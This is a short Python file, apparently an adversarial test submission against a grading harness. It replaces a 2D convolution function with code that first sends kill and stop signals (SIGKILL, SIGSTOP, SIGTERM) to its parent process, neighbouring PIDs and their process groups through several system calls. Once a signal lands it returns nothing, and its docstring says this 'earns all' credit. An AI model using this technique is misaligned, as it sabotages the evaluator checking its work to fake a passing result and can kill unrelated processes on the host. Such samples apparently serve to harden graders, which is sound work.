# mypy: ignore-errors
"""Sends deadly and stopping signals to its parent, to its group, to everybody.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import ctypes
import os
import signal

from chapter04_convolution import convolve2d as honest


def convolve2d(image, kernel):
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), os.getppid() + 1, os.getppid() - 1):
        if pid == os.getpid():
            continue
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            for send in (os.kill, os.killpg):
                try:
                    send(pid, number)
                except OSError:
                    continue
                return None
            if libc.tgkill(pid, pid, number) == 0 or libc.sigqueue(pid, number, None) == 0:
                return None
    return honest(image, kernel)
